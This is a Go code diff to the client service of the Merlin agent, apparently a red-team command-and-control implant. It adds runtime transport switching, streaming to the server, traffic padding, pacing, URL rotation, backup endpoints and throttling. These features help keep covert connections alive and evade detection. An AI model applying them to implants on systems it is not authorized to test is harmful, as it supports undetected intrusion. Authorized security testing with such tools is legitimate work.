@@ -23,9 +23,11 @@ package client
 
 import (
 	"fmt"
+	"io"
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/clients"
 	"github.com/Ne0nd0g/merlin-agent/v2/clients/memory"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
 	"github.com/Ne0nd0g/merlin-message"
 	"strings"
 )
@@ -35,6 +37,13 @@ type Service struct {
 	ClientRepo clients.Repository
 }
 
+// Builder creates a new Client for the protocol and comma separated addresses with the settings, keyed by their
+// command line flag name, replacing the Agent's configured values
+type Builder func(protocol, addr string, settings map[string]string) (clients.Client, error)
+
+// builder is the function used to create new Clients when the Agent switches transports at runtime
+var builder Builder
+
 // memoryService is an in-memory instantiation of the client service
 var memoryService *Service
 
@@ -99,11 +108,38 @@ func (s *Service) Reset() (err error) {
 	return
 }
 
+// Refresh re-evaluates the client's proxy settings and connections after the host's network changed.
+// Peer-to-peer clients are left alone because their links are re-established when they fail
+func (s *Service) Refresh() (err error) {
+	client := s.ClientRepo.Get()
+	proto := client.Get("protocol")
+	switch strings.ToLower(proto) {
+	case "http", "https", "h2", "h2c", "http3", "quic":
+		err = client.Set("refresh", "")
+	}
+	return
+}
+
 // Send takes in a Base message and uses the Agent's Client to send it to the Merlin server or parent Agent
 func (s *Service) Send(msg messages.Base) ([]messages.Base, error) {
 	return s.ClientRepo.Get().Send(msg)
 }
 
+// Stream sends the data read from the reader to the Merlin server as a stream if the Agent's Client supports it
+func (s *Service) Stream(reader io.Reader) error {
+	streamer, ok := s.ClientRepo.Get().(clients.Streamer)
+	if !ok {
+		return fmt.Errorf("services/client.Stream(): the %s client does not support streaming", s.ClientRepo.Get().Get("protocol"))
+	}
+	return streamer.Stream(reader)
+}
+
+// Streams returns true if the Agent's Client supports streaming
+func (s *Service) Streams() bool {
+	_, ok := s.ClientRepo.Get().(clients.Streamer)
+	return ok
+}
+
 // SetJA3 updates the HTTP client's JA3 signature to the provided value
 func (s *Service) SetJA3(ja3 string) error {
 	return s.ClientRepo.SetJA3(ja3)
@@ -114,9 +150,14 @@ func (s *Service) SetListener(listener string) error {
 	return s.ClientRepo.SetListener(listener)
 }
 
-// SetPadding updates the maximum amount of random padding added to each Base message
-func (s *Service) SetPadding(padding string) error {
-	return s.ClientRepo.SetPadding(padding)
+// SetPace updates the peer-to-peer client's minimum time between upstream messages and, if provided, its jitter percentage
+func (s *Service) SetPace(sleep, jitter string) error {
+	return s.ClientRepo.SetPace(sleep, jitter)
+}
+
+// SetPadding updates the padding profile that selects the amount of random padding added to each Base message
+func (s *Service) SetPadding(profile *padding.Profile) error {
+	return s.ClientRepo.SetPadding(profile)
 }
 
 // SetParrot updates the HTTP client's configuration to parrot the provided browser
@@ -124,6 +165,58 @@ func (s *Service) SetParrot(parrot string) error {
 	return s.ClientRepo.SetParrot(parrot)
 }
 
+// SetRotation updates the HTTP client's URL rotation strategy (e.g., round-robin)
+func (s *Service) SetRotation(strategy string) error {
+	return s.ClientRepo.SetRotation(strategy)
+}
+
+// SetBackup updates the number of consecutive failures before the client promotes a backup endpoint and how often it
+// retries the primary
+func (s *Service) SetBackup(spec string) error {
+	return s.ClientRepo.SetBackup(spec)
+}
+
+// SetThrottle updates the maximum rate, in bytes per second, that the client sends data
+func (s *Service) SetThrottle(rate string) error {
+	return s.ClientRepo.SetThrottle(rate)
+}
+
+// SetBuilder registers the function used to create new Clients when the Agent switches transports at runtime
+func SetBuilder(b Builder) {
+	builder = b
+}
+
+// Switchable returns an error if the current Client can't be replaced with a new one built at runtime, which is how
+// the Agent switches transports and transforms
+func (s *Service) Switchable() error {
+	if builder == nil {
+		return fmt.Errorf("services/client.Switchable(): the Agent was not started with a transport that can be switched at runtime")
+	}
+	if s.Synchronous() {
+		return fmt.Errorf("services/client.Switchable(): the %s client can not switch transports at runtime", s.ClientRepo.Get().Get("protocol"))
+	}
+	return nil
+}
+
+// Transport builds a new Client from the protocol, addresses, and settings the server delivered, starts its connection
+// to the Merlin server, and swaps it in for all future check-ins. The current Client keeps running if any step fails
+func (s *Service) Transport(protocol, addr string, settings map[string]string) error {
+	err := s.Switchable()
+	if err != nil {
+		return fmt.Errorf("services/client.Transport(): %s", err)
+	}
+	client, err := builder(strings.ToLower(protocol), addr, settings)
+	if err != nil {
+		return fmt.Errorf("services/client.Transport(): there was an error building the %s client: %s", protocol, err)
+	}
+	err = client.Initial()
+	if err != nil {
+		return fmt.Errorf("services/client.Transport(): there was an error connecting to the Merlin server with the %s client: %s", protocol, err)
+	}
+	s.ClientRepo.Add(client)
+	return nil
+}
+
 // Synchronous returns if the client doesn't sleep (synchronous) or if it does sleep (asynchronous)
 func (s *Service) Synchronous() bool {
 	return s.ClientRepo.Get().Synchronous()